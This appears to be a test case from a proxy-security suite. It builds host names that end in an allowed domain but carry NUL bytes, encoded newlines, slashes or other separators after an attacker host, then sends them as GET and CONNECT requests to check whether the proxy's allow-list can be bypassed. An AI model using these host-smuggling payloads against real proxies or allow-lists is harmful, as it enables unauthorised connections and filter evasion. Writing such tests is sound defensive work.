"""Gives the proxy a host that ends as an allowed one, and is another once it is decoded or cut at a NUL.

group: proxy
effect: connects
allow: web.example.com:80, *.wild.example.com:80
asks: web.example.com
reaches: tcp 93.184.216.34:80
"""
EVIL = arena.evil
for suffix in ("web.example.com", "a.wild.example.com"):
    for gap in ("%00", "\0", "%00.", "\0.", "%2500", "%0a", "%23", "%2f", "%5c", "%3f", "%20", ";", ",", "|", "^", "`", "\xad", "%E3%80%82"):
        host = f"{EVIL}{gap}{suffix}"
        ask_proxy(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n")
        ask_proxy(f"CONNECT {host}:80 HTTP/1.1\r\nHost: {host}:80\r\n\r\n", "GET / HTTP/1.0\r\n\r\n")
